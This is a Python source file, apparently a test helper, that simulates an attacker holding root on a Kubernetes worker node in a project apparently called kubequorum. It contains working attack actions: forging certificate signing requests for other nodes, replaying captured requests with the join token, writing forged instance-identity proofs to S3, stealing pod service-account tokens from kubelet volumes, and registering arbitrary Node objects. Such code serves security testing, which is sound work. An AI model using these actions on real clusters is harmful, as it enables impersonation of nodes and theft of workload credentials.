"""What an attacker does who has become root on a worker; runs there, with what is there.

It reads one JSON object from its first argument, `{"do": …}`, and prints another.
"""

import base64
import json
import ssl
import subprocess
import sys
import urllib.error
import urllib.request
from pathlib import Path
from typing import Any

import boto3
from botocore.exceptions import ClientError

_NODE = "/opt/kubequorum/node.json"
_CLUSTER = "/opt/kubequorum/current/cluster.json"
_CA = "/etc/kubernetes/pki/ca.crt"
_OWN = "/var/lib/kubelet/pki/kubelet-client-current.pem"
_REQUESTS = "/apis/certificates.k8s.io/v1/certificatesigningrequests"


def _json(path: str) -> Any:
    with open(path, encoding="utf-8") as file:
        return json.load(file)


def _s3() -> Any:
    return boto3.client("s3", region_name=_json(_CLUSTER)["region"])


def _join_material() -> Any:
    stored = _s3().get_object(Bucket=_json(_NODE)["bucket"], Key="join/worker.json")
    return json.loads(stored["Body"].read())


def _call(
    method: str, path: str, body: Any = None, *, certificate: str = "", token: str = ""
) -> tuple[int, Any]:
    """As the owner of a certificate or a token, or else of the token that workers join with."""
    context = ssl.create_default_context(cafile=_CA)
    headers = {"Content-Type": "application/json"}
    if certificate:
        context.load_cert_chain(certificate)
    else:
        headers["Authorization"] = f"Bearer {token or _join_material()['token']}"
    url = f"https://{_json(_CLUSTER)['node_api_name']}:6443{path}"
    data = None if body is None else json.dumps(body).encode()
    request = urllib.request.Request(url, data=data, method=method, headers=headers)
    opener = urllib.request.build_opener(
        urllib.request.ProxyHandler({}), urllib.request.HTTPSHandler(context=context)
    )
    try:
        with opener.open(request, timeout=20) as answer:
            return answer.status, json.loads(answer.read())
    except urllib.error.HTTPError as error:
        return error.code, error.read().decode(errors="replace")


def request(
    *,
    label: str,
    node: str,
    signer: str = "kube-apiserver-client-kubelet",
    names: str = "",
    certificate: str = "",
) -> Any:
    """Ask for a certificate in the name of a node, with a new key; the answer, and the key's hash."""
    added = ["-addext", f"subjectAltName={names}"] if names else []
    subject = f"/O=system:nodes/CN=system:node:{node}"
    key = f"/root/{label}.key"
    words = ["openssl", "req", "-new", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes"]
    pem = subprocess.run(
        [*words, "-keyout", key, "-subj", subject, *added], check=True, capture_output=True
    ).stdout
    usage = "client auth" if "client" in signer else "server auth"
    body = {
        "apiVersion": "certificates.k8s.io/v1",
        "kind": "CertificateSigningRequest",
        "metadata": {"name": label},
        "spec": {
            "request": base64.b64encode(pem).decode(),
            "signerName": f"kubernetes.io/{signer}",
            "usages": ["digital signature", usage],
        },
    }
    status, answer = _call("POST", _REQUESTS, body, certificate=certificate)
    hashed = subprocess.run(
        ["bash", "-c", f"openssl pkey -in {key} -pubout -outform DER | sha256sum"],
        check=True,
        capture_output=True,
        text=True,
    ).stdout.split()[0]
    return {"status": status, "hash": f"sha256:{hashed}", "answer": str(answer)[:500]}


def replay(*, label: str, content: str) -> Any:
    """Ask with another's request, as it was seen in the API, and the token that workers join with."""
    body = {
        "apiVersion": "certificates.k8s.io/v1",
        "kind": "CertificateSigningRequest",
        "metadata": {"name": label},
        "spec": {
            "request": content,
            "signerName": "kubernetes.io/kube-apiserver-client-kubelet",
            "usages": ["digital signature", "client auth"],
        },
    }
    status, answer = _call("POST", _REQUESTS, body)
    return {"status": status, "answer": str(answer)[:500]}


def request_as_itself(**wanted: str) -> Any:
    """The same with this node's own certificate."""
    return request(**wanted, certificate=_OWN)


def prove(*, arn: str, content: str) -> Any:
    """Write a proof in the name of an instance, with this instance's credentials."""
    try:
        _s3().put_object(Bucket=_json(_NODE)["bucket"], Key=f"identity/{arn}", Body=content.encode())
    except ClientError as error:
        return {"error": error.response["Error"]["Code"]}
    return {"error": ""}


def get(*, path: str, certificate: str = "", token: str = "") -> Any:
    """The status of a GET, as the owner of a certificate or a token."""
    status, answer = _call("GET", path, certificate=certificate, token=token)
    return {"status": status, "answer": answer}


def steal_token(*, pod: str) -> Any:
    """The token of a pod of this node, by the pod's uid; empty if it has none yet."""
    volumes = Path("/var/lib/kubelet/pods") / pod / "volumes/kubernetes.io~projected"
    return {"token": next((file.read_text() for file in volumes.glob("*/token")), "")}


def who_is(*, token: str) -> Any:
    """Whom the API takes the owner of a token for."""
    body = {"apiVersion": "authentication.k8s.io/v1", "kind": "SelfSubjectReview"}
    status, answer = _call("POST", "/apis/authentication.k8s.io/v1/selfsubjectreviews", body, token=token)
    return {"status": status, "name": answer["status"]["userInfo"]["username"] if status == 201 else ""}


def register(*, node: str, certificate: str) -> Any:
    """The status of the registration of a Node, as the owner of a certificate."""
    body = {
        "apiVersion": "v1",
        "kind": "Node",
        "metadata": {"name": node},
        "spec": {"providerID": f"aws:///{_json(_CLUSTER)['region']}a/{node}"},
    }
    status, answer = _call("POST", "/api/v1/nodes", body, certificate=certificate)
    return {"status": status, "answer": str(answer)[:500]}


_ACTIONS = (request, request_as_itself, replay, prove, get, steal_token, who_is, register)


def main() -> None:
    """Do what the argument says."""
    wanted = json.loads(sys.argv[1])
    actions = {f.__name__: f for f in _ACTIONS}
    print(json.dumps(actions[wanted.pop("do")](**wanted)))


if __name__ == "__main__":
    main()
